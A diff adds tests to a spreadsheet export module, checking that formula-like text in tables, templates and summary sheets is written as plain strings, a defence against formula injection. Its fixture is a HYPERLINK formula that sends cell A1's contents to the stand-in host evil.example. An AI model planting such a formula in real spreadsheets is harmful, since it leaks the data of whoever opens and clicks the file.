@@ -88,3 +88,55 @@ def test_classification_rows_in_tier_colours_and_a_summary_with_a_chart():
     with zipfile.ZipFile(io.BytesIO(data_bytes)) as archive:
         chart = archive.read("xl/charts/chart1.xml").decode()
     assert "Summary!$B$4:$B$6" in chart and "Summary!$A$4:$A$6" in chart
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def _formula_cells(data):
+    """The cells of every sheet that hold a formula (an ``<f>`` element), by sheet file."""
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return {
+            name: archive.read(name).count(b"<f>") + archive.read(name).count(b"<f ")
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/sheet")
+        }
+
+
+def _strings(data):
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    return {
+        cell.value: cell.data_type
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str)
+    }
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text_in_tables():
+    table = Table("Contacts", [TableColumn("Name"), TableColumn("Note")], [[FORMULA, "+1-2"], ["@SUM(A1)", "-3"]])
+    data = exporting.write_tables([table])
+    assert set(_formula_cells(data).values()) == {0}
+    strings = _strings(data)
+    assert strings[FORMULA] == "s"
+    assert strings["@SUM(A1)"] == "s"
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text_in_the_template():
+    columns = [TemplateColumn("Customer Name", help=FORMULA, example="=1+1", choices=("=2+2", "B"))]
+    data = exporting.write_template("Customers", columns, "Instructions", ("Column", "R", "W", "E"), notes=(FORMULA,))
+    assert set(_formula_cells(data).values()) == {0}
+    strings = _strings(data)
+    assert strings[FORMULA] == "s"
+    assert strings["=1+1"] == "s"
+    assert strings["=2+2"] == "s"
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text_in_the_classification():
+    table = Table("Classification", [TableColumn("Customer"), TableColumn("Stars", "int")], [[FORMULA, 5]])
+    labels = ("Grade", "Customers", "Share", "Annual Amount", "Tier", "Total")
+    summary = Summary("Summary", "Grade distribution", labels, [(FORMULA, 1, 0.0)])
+    data = exporting.write_classification(table, summary)
+    assert _formula_cells(data)["xl/worksheets/sheet1.xml"] == 0
+    assert _strings(data)[FORMULA] == "s"
